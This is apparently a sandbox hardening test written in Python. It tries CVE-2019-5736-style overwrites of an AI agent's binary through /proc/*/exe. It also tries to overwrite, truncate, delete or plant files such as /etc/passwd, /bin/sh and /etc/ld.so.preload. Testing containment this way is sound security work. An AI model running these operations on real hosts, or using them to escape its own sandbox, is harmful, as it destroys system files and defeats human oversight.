# In the style of CVE-2019-5736: programs and files of the host that the sandbox uses.
def overwrite(path):
    return opens(path, os.O_WRONLY)


def make(path):
    return ok(os.close(os.open(path, os.O_CREAT | os.O_WRONLY)))


def reopened():
    return overwrite("/proc/self/fd/%d" % os.open("/proc/self/exe", os.O_PATH))


def as_interpreter():
    """Makes the next command execute the agent's program, and then writes to that file."""
    with open("/workspace/trap", "w") as f:
        f.write("#!/proc/self/exe\n")
    os.chmod("/workspace/trap", 0o755)
    null = subprocess.DEVNULL
    child = subprocess.Popen(["/workspace/trap"], stdin=null, stdout=null, stderr=null)
    try:
        return any_of(lambda _: overwrite("/proc/%d/exe" % child.pid), range(50))
    finally:
        child.kill()
        child.wait()


attempt("the agent by /proc/1/exe", lambda: overwrite("/proc/1/exe"))
attempt("the agent by its path", lambda: overwrite("/.hutch/agent"))
attempt("every running program", lambda: any_of(lambda p: overwrite("/proc/%s/exe" % p), pids()))
attempt("my interpreter, opened again", reopened)
attempt("a script whose interpreter is /proc/self/exe", as_interpreter)
attempt("programs and libraries", lambda: any_of(overwrite, [
    "/usr/bin/env", "/bin/sh", "/usr/lib/os-release", "/lib64/ld-linux-x86-64.so.2"]))
attempt("what is configured", lambda: any_of(overwrite, ["/etc/passwd", "/etc/ld.so.cache", "/etc/resolv.conf", "/etc/hosts"]))
attempt("new files among the host's", lambda: any_of(make, ["/usr/bin/evil", "/usr/lib/evil", "/lib/evil", "/sbin/evil"]))
attempt("new files of the image's own", lambda: any_of(make, [
    "/etc/ld.so.preload", "/evil", "/root/evil", "/.hutch/evil", "/home/evil", "/run/evil", "/var/evil"]))
attempt("hard links to the host's files", lambda: ok(os.link("/usr/bin/env", "/workspace/env")))
attempt("rename the host's files", lambda: ok(os.rename("/usr/bin/env", "/usr/bin/evil")))
attempt("delete the host's files", lambda: ok(os.unlink("/usr/bin/env")))
attempt("truncate the host's files", lambda: ok(os.truncate("/etc/passwd", 0)))
attempt("attributes of the host's files", lambda: ok(os.setxattr("/usr/bin/env", "user.evil", b"1")))
attempt("times of the host's files", lambda: ok(os.utime("/usr/bin/env", (0, 0))))
attempt("modes of the host's files", lambda: ok(os.chmod("/usr/bin/env", 0o777)))
